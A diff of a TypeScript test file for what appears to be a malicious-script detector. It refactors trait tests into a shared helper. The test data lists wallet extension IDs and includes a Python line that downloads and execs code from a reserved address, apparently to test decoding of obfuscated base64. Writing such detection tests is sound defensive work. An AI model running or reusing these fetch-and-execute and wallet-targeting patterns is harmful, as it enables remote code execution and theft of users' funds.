@@ -1,14 +1,8 @@
 // Traits by name: texts that show one and at least as many that come close. Addresses are reserved ones.
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
-import type { ScriptLanguage } from '../../../src/file/formats/script/facts.ts'
 import { readScript } from '../../../src/file/formats/script/read.ts'
-
-type Text = readonly [ScriptLanguage, string]
-interface Cases {
-  readonly hits: Readonly<Record<string, Text>>
-  readonly misses: Readonly<Record<string, Text>>
-}
+import { type Cases, testTraits } from './trait-table.ts'
 
 const METAMASK = 'nkbihfbeogaeaoehlefnkodbefgpgknn'
 const PHANTOM = 'bfnaelmomeimhlpmgjnjophhpkkoljpa'
@@ -266,12 +260,7 @@ const TRAITS: Readonly<Record<string, Cases>> = {
   },
 }
 
-for (const [id, { hits, misses }] of Object.entries(TRAITS)) {
-  const shows = ([language, text]: Text): boolean =>
-    readScript(text, language).facts.traits.some((trait) => trait.id === id)
-  for (const [name, text] of Object.entries(hits)) test(`${id} is seen: ${name}`, () => assert.ok(shows(text)))
-  for (const [name, text] of Object.entries(misses)) test(`${id} is not seen: ${name}`, () => assert.ok(!shows(text)))
-}
+testTraits(TRAITS)
 
 test('base64 written backwards is read, its padding in front', () => {
   const plain = `import os\nexec(__import__('urllib.request').request.urlopen('http://203.0.113.7/a.py').read())\n# ${'x'.repeat(7)}`
